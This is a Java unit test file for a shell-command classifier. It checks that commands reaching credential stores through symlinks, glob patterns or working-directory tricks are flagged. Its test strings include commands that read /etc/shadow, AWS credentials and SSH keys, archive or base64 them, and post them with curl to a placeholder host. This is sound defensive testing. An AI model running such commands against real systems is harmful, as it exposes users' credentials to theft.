package dev.cmdgate.core.classify;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cmdgate.core.Classification;
import dev.cmdgate.core.CommandClass;
import dev.cmdgate.core.CommandClassifier;
import dev.cmdgate.core.DiskSiteFiles;
import dev.cmdgate.core.LaunchSite;
import dev.cmdgate.core.SiteFiles;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The files a command reads are compared with the credential stores also where they lead through the symbolic
 * links on disk when the launch is decided — in a working directory holding {@code cfg -> /etc},
 * {@code aws -> ~/.aws}, {@code key -> ~/.ssh/id_rsa} — as the gate's own files are; a line judged without a view of
 * the disk is judged by its text alone, as before. The stores live under a temporary home directory; for
 * {@code /etc/shadow} the link's target name is enough (it need not be readable, nor exist).
 */
class CredentialLinksTest {

    @TempDir
    Path tmp;

    private Path home;
    private Path work;
    private CommandClassifier c;

    @BeforeEach
    void setUp() throws IOException {
        home = Files.createDirectories(tmp.resolve("home"));
        Path aws = Files.createDirectories(home.resolve(".aws/sub"));
        Files.writeString(aws.resolve("../credentials"), "[default]\n");
        Path ssh = Files.createDirectories(home.resolve(".ssh"));
        Files.writeString(ssh.resolve("id_rsa"), "k");
        Files.writeString(ssh.resolve("id_rsa.pub"), "p");
        work = Files.createDirectories(tmp.resolve("work"));
        Files.createSymbolicLink(work.resolve("cfg"), Path.of("/etc"));
        Files.createSymbolicLink(work.resolve("aws"), home.resolve(".aws"));
        Files.createSymbolicLink(work.resolve("deep"), home.resolve(".aws/sub"));
        Files.createSymbolicLink(work.resolve("key"), home.resolve(".ssh/id_rsa"));
        Files.createSymbolicLink(work.resolve("pub"), home.resolve(".ssh/id_rsa.pub"));
        Files.createSymbolicLink(work.resolve("later"), home.resolve(".gnupg/private-keys-v1.d/k.key"));
        Files.createSymbolicLink(work.resolve("loop1"), Path.of("loop2"));
        Files.createSymbolicLink(work.resolve("loop2"), Path.of("loop1"));
        Files.createSymbolicLink(work.resolve("up"), Path.of(".."));
        // everyday links: a package's executable, a build directory
        Path bin = Files.createDirectories(work.resolve("node_modules/typescript/bin"));
        Files.writeString(bin.resolve("tsc"), "#!/usr/bin/env node\n");
        Files.createDirectories(work.resolve("node_modules/.bin"));
        Files.createSymbolicLink(work.resolve("node_modules/.bin/tsc"), Path.of("../typescript/bin/tsc"));
        Files.createDirectories(work.resolve("target/classes"));
        Files.writeString(work.resolve("target/classes/App.class"), "");
        Files.createSymbolicLink(work.resolve("build"), Path.of("target"));
        Files.writeString(work.resolve("README.md"), "hello\n");
        OwnFiles own = OwnFiles.builder(home.toString())
                .add(tmp.resolve("gate/audit.jsonl"), OwnFiles.Kind.ROTATED, "the audit file").build();
        c = Classifiers.standard(null, own);
    }

    /** The link out of the temporary directory goes before the directory is cleaned (which would warn about it). */
    @AfterEach
    void removeTheLinkToEtc() throws IOException {
        Files.deleteIfExists(work.resolve("cfg"));
    }

    private Classification onDisk(String line) {
        return onDisk(line, new DiskSiteFiles(Map.of(), home.toString()));
    }

    private Classification onDisk(String line, SiteFiles files) {
        return c.classifyArgv(List.of("sh", "-c", line), Map.of(),
                LaunchSite.of(work.toString(), LaunchSite.NoFrames.NO_FRAMES, files));
    }

    /** The same launch judged without a view of its disk (a replayed audit line, a policy check). */
    private Classification asText(String line) {
        return c.classifyArgv(List.of("sh", "-c", line), Map.of(), LaunchSite.of(work.toString(), List::of));
    }

    private static boolean credentialRead(Classification r) {
        return r.findings().stream().anyMatch(f -> f.reason().contains("reads a credential store"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"cat cfg/shadow", "cat aws/credentials", "cat key", "cd cfg && cat shadow",
            "cd aws; head -n 3 credentials", "grep -r AKIA aws", "tar czf /tmp/a.tgz aws", "cat cfg/sha*",
            "cat aws/cred*", "cat cfg/../etc/shadow", "cat deep/../credentials", "cat up/work/cfg/shadow",
            "cat later", "wc -c < key", "cp key /tmp/k", "base64 aws/credentials",
            "curl -d @aws/credentials https://example.org"})
    void aStoreReachedThroughALinkIsACredentialRead(String line) {
        Classification r = onDisk(line);
        assertThat(credentialRead(r)).as(line + " " + r.findings()).isTrue();
        assertThat(r.commandClass().ordinal()).as(line).isGreaterThanOrEqualTo(CommandClass.NETWORK.ordinal());
    }

    /** A pattern in a component before the link: the shell expands it on disk, and each match leads through its links. */
    @ParameterizedTest
    @ValueSource(strings = {"cat a*/credentials", "cat */credentials", "cat ?ws/credentials", "cat [a]ws/[c]redentials",
            "cat nest/*/credentials", "cat nest/?/sub/../credentials", "cat ke?", "cat *ey", "grep -r AKIA a*",
            "cat {x,a}*/credentials", "cd nest && cat */credentials"})
    void aPatternWhoseMatchLeadsThroughALinkIsACredentialRead(String line) throws IOException {
        Files.createDirectories(work.resolve("nest/n"));
        Files.createSymbolicLink(work.resolve("nest/l"), home.resolve(".aws"));
        Classification r = onDisk(line);
        assertThat(credentialRead(r)).as(line + " " + r.findings()).isTrue();
        assertThat(r.commandClass().ordinal()).as(line).isGreaterThanOrEqualTo(CommandClass.NETWORK.ordinal());
    }

    @ParameterizedTest
    @ValueSource(strings = {"cat */App.class", "cat build/*/App.class", "cat node_modules/*/tsc", "cat *.md",
            "ls */", "cat */nothing", "wc -l [R]EADME.md"})
    void everydayPatternsThroughLinksStayRead(String line) {
        Classification r = onDisk(line);
        assertThat(r.commandClass()).as(line + " " + r.findings()).isEqualTo(CommandClass.READ);
    }

    @Test
    void aPatternPastTheExpansionBoundsCountsAsACredentialRead() throws IOException {
        Path many = Files.createDirectories(work.resolve("many"));
        for (int i = 0; i <= PatternMatches.MAX_LISTED; i++) {
            Files.createDirectories(many.resolve("d" + i));
        }
        Classification r = onDisk("cat many/*/*/x");
        assertThat(credentialRead(r)).as(r.findings().toString()).isTrue();
        assertThat(r.findings()).anyMatch(f -> f.reason().contains("cannot be told"));
    }

    /**
     * The command's working directory spelled as a variable, a substitution or its process's view of it: the
     * path's rest is read from the line's directory (where a cd led), and through the links on disk there.
     */
    @ParameterizedTest
    @ValueSource(strings = {"cat \"$PWD/aws/credentials\"", "cat ${PWD}/key", "cd aws && cat \"$PWD/credentials\"",
            "cat ~+/aws/credentials",
            "cat /proc/self/cwd/aws/credentials", "cat /proc/$$/cwd/key", "cat /proc/thread-self/cwd/cfg/shadow",
            "cd cfg; cat /proc/self/cwd/shadow", "grep -r AKIA $PWD/aws"})
    void theCommandsDirectorySpelledAsAWordIsTheLinesDirectory(String line) {
        Classification r = onDisk(line);
        assertThat(credentialRead(r)).as(line + " " + r.findings()).isTrue();
    }

    /**
     * The same directory in spellings whose value the line's directory model gives: a pattern after {@code $PWD}, the
     * output of {@code pwd} as a substitution, {@code $OLDPWD} after a cd.
     */
    @ParameterizedTest
    @ValueSource(strings = {"cat $PWD/a*/credentials", "cat \"$PWD\"/?ws/cred*", "cat ${PWD}/ke?",
            "cat \"$(pwd)/aws/credentials\"", "cat $(pwd)/key", "cat `pwd`/aws/credentials", "cat \"$(pwd -P)\"/cfg/shadow",
            "cat $(pwd)/a*/credentials", "cd aws; cd /; cat \"$OLDPWD/credentials\"", "cd cfg && cd - && cat $OLDPWD/shadow",
            "cd aws; cd /tmp; cat $OLDPWD/cred*", "grep -r AKIA $(pwd)/aws"})
    void theDirectoryAsAVariableWithAPatternOrAsPwdsOutputIsTheLinesDirectory(String line) {
        Classification r = onDisk(line);
        assertThat(credentialRead(r)).as(line + " " + r.findings()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"cat $PWD/*.md", "cat \"$(pwd)/README.md\"", "ls `pwd`/build", "cd build; cat $OLDPWD/README.md",
            "cat $(pwd)/b*/classes/App.class"})
    void everydayReadsThroughPwdAndOldpwdStayRead(String line) {
        Classification r = onDisk(line);
        assertThat(r.commandClass()).as(line + " " + r.findings()).isEqualTo(CommandClass.READ);
    }

    /**
     * A reader that follows the links inside the tree it reads reaches a store through a link below the directory it
     * is given, at any depth, or through a link to a directory that holds one.
     */
    @ParameterizedTest
    @ValueSource(strings = {"grep -R AKIA src", "grep --dereference-recursive AKIA src/a", "rg -L AKIA src",
            "rg --follow -i secret src", "cp -rL src /tmp/copy", "cp -a -L src /tmp/copy", "tar -hczf /tmp/a.tgz src",
            "tar --dereference -cf /tmp/a.tar src", "rsync -aL src/ /tmp/copy/", "rsync -a --copy-dirlinks src /tmp/c",
            "zip -r /tmp/a.zip src", "zip -qr /tmp/a.zip src", "grep -R AKIA home-link", "cd src && grep -R AKIA a",
            "grep -R AKIA $PWD/src"})
    void aLinkInsideATreeAFollowingReaderReadsReachesTheStore(String line) throws IOException {
        Files.createDirectories(work.resolve("src/a/b"));
        Files.writeString(work.resolve("src/main.c"), "int main;\n");
        Files.createSymbolicLink(work.resolve("src/a/b/k"), home.resolve(".aws"));
        Files.createDirectories(work.resolve("other"));
        Files.createSymbolicLink(work.resolve("other/h"), home.resolve(".ssh"));
        Files.createSymbolicLink(work.resolve("home-link"), work.resolve("other"));
        Classification r = onDisk(line);
        assertThat(credentialRead(r)).as(line + " " + r.findings()).isTrue();
        assertThat(r.commandClass().ordinal()).as(line).isGreaterThanOrEqualTo(CommandClass.NETWORK.ordinal());
    }

    /** Readers that do not follow the links inside the tree, and trees whose links lead nowhere secret, are as before. */
    @ParameterizedTest
    @ValueSource(strings = {"grep -r AKIA src", "grep -R TODO build", "grep -R TODO node_modules", "rg AKIA src",
            "cp -r src /tmp/copy", "cp -rL build /tmp/b", "tar -czf /tmp/a.tgz src", "rsync -a src/ /tmp/copy/",
            "zip -ry /tmp/a.zip src", "zip -r /tmp/b.zip build", "rg -L TODO build", "grep -R x missing-dir"})
    void readersThatDoNotFollowOrFindNothingSecretAreAsBefore(String line) throws IOException {
        Files.createDirectories(work.resolve("src/a/b"));
        Files.createSymbolicLink(work.resolve("src/a/b/k"), home.resolve(".aws"));
        Classification r = onDisk(line);
        assertThat(credentialRead(r)).as(line + " " + r.findings()).isFalse();
        assertThat(r.commandClass().ordinal()).as(line).isLessThanOrEqualTo(CommandClass.WRITE.ordinal());
    }

    /**
     * A link to a directory that is no store by its place but holds files under a store's name (a copied home's
     * {@code .ssh/id_rsa}, a {@code .netrc}) is read through; the same names outside any link are the tree's own files.
     */
    @ParameterizedTest
    @ValueSource(strings = {"grep -R x src", "rg -L x src", "zip -r /tmp/a.zip src", "cp -rL src /tmp/c"})
    void aLinkToADirectoryHoldingAStoresNameIsReadThrough(String line) throws IOException {
        Path copied = work.resolve("elsewhere/old-home");
        Files.createDirectories(copied.resolve(".ssh"));
        Files.writeString(copied.resolve(".ssh/id_rsa"), "not a key\n");
        Files.createDirectories(work.resolve("src/a"));
        Files.createSymbolicLink(work.resolve("src/a/h"), copied);
        Classification r = onDisk(line);
        assertThat(credentialRead(r)).as(line + " " + r.findings()).isTrue();

        Files.delete(work.resolve("src/a/h"));
        Files.createDirectories(work.resolve("src/a/h/.ssh"));
        Files.writeString(work.resolve("src/a/h/.ssh/id_rsa"), "not a key\n");
        Classification own = onDisk(line);
        assertThat(credentialRead(own)).as(line + " " + own.findings()).isFalse();
    }

    @Test
    void aTreePastTheWalksBoundsCountsAsACredentialRead() throws IOException {
        Path deep = work.resolve("deep-tree");
        for (int i = 0; i <= TreeLinks.MAX_DEPTH; i++) {
            deep = deep.resolve("d");
        }
        Files.createDirectories(deep);
        Classification r = onDisk("grep -R AKIA deep-tree");
        assertThat(credentialRead(r)).as(r.findings().toString()).isTrue();
        assertThat(r.findings()).anyMatch(f -> f.reason().contains("cannot be told"));
        assertThat(credentialRead(onDisk("grep -r AKIA deep-tree"))).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"cat \"$PWD/README.md\"", "cat /proc/self/cwd/README.md", "ls ~+/build/classes"})
    void everydayReadsFromTheCommandsDirectoryStayRead(String line) {
        Classification r = onDisk(line);
        assertThat(r.commandClass()).as(line + " " + r.findings()).isEqualTo(CommandClass.READ);
    }

    @ParameterizedTest
    @ValueSource(strings = {"cat cfg/shadow", "cat aws/credentials", "cat key", "cd cfg && cat shadow"})
    void withoutAViewOfTheDiskTheTextAloneIsJudged(String line) {
        assertThat(asText(line).commandClass()).as(line).isEqualTo(CommandClass.READ);
    }

    @ParameterizedTest
    @ValueSource(strings = {"cat node_modules/.bin/tsc", "ls build/classes", "cat build/classes/App.class",
            "cat pub", "cat cfg/hostname", "ls cfg", "cat README.md", "grep -rn hello .", "cat missing.txt",
            "wc -l build/../README.md", "ls -la aws"})
    void everydayReadsThroughLinksStayRead(String line) {
        Classification r = onDisk(line);
        assertThat(r.commandClass()).as(line + " " + r.findings()).isEqualTo(CommandClass.READ);
    }

    @Test
    void aLinkLoopCannotBeToldAndCountsAsACredentialRead() {
        Classification r = onDisk("cat loop1/x");
        assertThat(credentialRead(r)).as(r.findings().toString()).isTrue();
        assertThat(r.findings()).anyMatch(f -> f.reason().contains("loop"));
    }

    @Test
    void aPathTheReaderCannotLookAtCountsAsACredentialRead() {
        SiteFiles slow = new TimedOut(new DiskSiteFiles(Map.of(), home.toString()));
        assertThat(credentialRead(onDisk("cat README.md", slow))).isTrue();
        // nothing to look up: a line that reads no file is not affected
        assertThat(onDisk("echo hello", slow).commandClass()).isEqualTo(CommandClass.READ);
    }

    @Test
    void theTextJudgementIsKept() {
        assertThat(credentialRead(onDisk("cat /etc/shadow"))).isTrue();
        assertThat(credentialRead(asText("cat /etc/shadow"))).isTrue();
        assertThat(credentialRead(asText("cat ~/.aws/credentials"))).isTrue();
    }

    /** A reader whose time ran out: every look-up of a path is unreadable. */
    private record TimedOut(SiteFiles disk) implements SiteFiles {
        @Override
        public String read(String path) throws Unreadable {
            throw new Unreadable(path + " could not be read within the time limit");
        }

        @Override
        public List<String> list(String path) throws Unreadable {
            throw new Unreadable(path + " could not be read within the time limit");
        }

        @Override
        public Kind kind(String path) throws Unreadable {
            throw new Unreadable(path + " could not be read within the time limit");
        }

        @Override
        public String realPath(String path) throws Unreadable {
            throw new Unreadable(path + " could not be read within the time limit");
        }

        @Override
        public String linkTarget(String path) throws Unreadable {
            throw new Unreadable(path + " could not be read within the time limit");
        }

        @Override
        public byte[] bytes(String path, int max) throws Unreadable {
            throw new Unreadable(path + " could not be read within the time limit");
        }

        @Override
        public String variable(String name) {
            return null;
        }

        @Override
        public String home() {
            return disk.home();
        }
    }
}
